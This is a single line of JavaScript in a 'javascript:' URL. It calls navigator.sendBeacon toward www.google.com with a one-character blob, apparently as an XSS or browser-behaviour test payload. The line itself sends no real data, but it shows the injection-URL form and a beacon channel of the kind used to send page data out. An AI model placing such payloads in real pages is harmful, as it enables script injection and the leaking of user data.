javascript:alert(navigator.sendBeacon('//www.google.com',new Blob(['1'],{type:'any'})))
